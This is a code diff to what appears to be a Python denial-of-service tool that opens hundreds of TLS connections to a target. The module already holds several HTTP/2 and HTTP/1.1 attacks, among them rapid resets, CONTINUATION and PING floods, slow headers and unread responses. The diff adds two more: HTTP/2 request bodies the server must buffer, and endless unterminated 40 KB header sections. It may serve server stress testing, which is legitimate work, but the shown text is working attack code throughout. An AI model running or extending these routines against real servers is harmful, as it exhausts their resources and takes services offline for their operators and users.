@@ -11,8 +11,8 @@ from report import Report
 from wire import Target
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0"
-HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 1, 3, 4, 6, 8, 9
-END_STREAM, END_HEADERS = 1, 4
+DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
+ACK, END_STREAM, END_HEADERS = 1, 1, 4
 
 # Connections at once of those who are slow.
 CROWD = 200
@@ -34,9 +34,9 @@ def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
     return struct.pack("!I", len(payload))[1:] + struct.pack("!BBI", kind, flags, stream) + payload
 
 
-def head(target: Target, path: str) -> bytes:
+def head(target: Target, path: str, method: str = "GET") -> bytes:
     """A request without a table."""
-    fields = ((":method", "GET"), (":scheme", "https"), (":authority", target.name), (":path", path))
+    fields = ((":method", method), (":scheme", "https"), (":authority", target.name), (":path", path))
     return b"".join(
         bytes([0, len(name)]) + name.encode() + bytes([len(value)]) + value.encode() for name, value in fields
     )
@@ -96,8 +96,8 @@ def tcp_pings(target: Target, report: Report) -> Iterator[None]:
     return flood(target, report, b"", lambda n: frame(PING, 0, 0, bytes(8)) if n % 2 else frame(SETTINGS, 0, 0), MANY)
 
 
-def crowd(target: Target, report: Report, protocol: str, first: bytes, then: bytes) -> Iterator[None]:
-    """Connections that say `first`, and then now and then `then`."""
+def crowd(target: Target, report: Report, protocol: str, first: bytes, then: bytes, late: bytes = b"") -> Iterator[None]:
+    """Connections that say `first`, `late` when they are answered, and then now and then `then`."""
     people: list[ssl.SSLSocket] = []
     try:
         while True:
@@ -105,6 +105,8 @@ def crowd(target: Target, report: Report, protocol: str, first: bytes, then: byt
                 try:
                     made = connect(target, protocol)
                     made.sendall(first)
+                    if late and made.recv(1 << 16):
+                        made.sendall(late)
                 except OSError:
                     report.add("refused")
                     continue
@@ -138,6 +140,24 @@ def tcp_unread(target: Target, report: Report) -> Iterator[None]:
     """Large responses of which nothing is read."""
     get = f"GET /long.mp4 HTTP/1.1\r\nhost: {target.name}\r\n\r\n".encode()
     return crowd(target, report, "http/1.1", get, b"")
+
+
+# Octets of a body that HTTP/2 has a client send before they are read, and how many such bodies a connection has.
+BODY, BODIES = 128_000, 2
+
+
+def tcp_unread_bodies(target: Target, report: Report) -> Iterator[None]:
+    """Bodies of requests that an origin does not take."""
+    streams = range(1, 2 * BODIES, 2)
+    section = head(target, "/", "POST")
+    start = PREFACE + b"".join(frame(HEADERS, END_HEADERS, stream, section) for stream in streams)
+    bodies = b"".join(frame(DATA, 0, stream, bytes(16_000)) for stream in streams for _ in range(BODY // 16_000))
+    return crowd(target, report, "h2", start, b"", frame(SETTINGS, ACK, 0) + bodies)
+
+
+def tcp_parts(target: Target, report: Report) -> Iterator[None]:
+    """Large header sections that are not ended."""
+    return crowd(target, report, "http/1.1", b"GET / HTTP/1.1\r\nhost: x\r\nx: " + b"y" * 40_000, b"y")
 
 
 # Responses at once of each connection that sips, and what it takes of each at a time.
@@ -181,4 +201,4 @@ def tcp_sips(target: Target, report: Report) -> Iterator[None]:
         yield
 
 
-ATTACKS = (tcp_rapid_resets, tcp_continuations, tcp_pings, tcp_slow_heads, tcp_unread, tcp_sips)
+ATTACKS = (tcp_rapid_resets, tcp_continuations, tcp_pings, tcp_slow_heads, tcp_unread, tcp_sips, tcp_parts, tcp_unread_bodies)
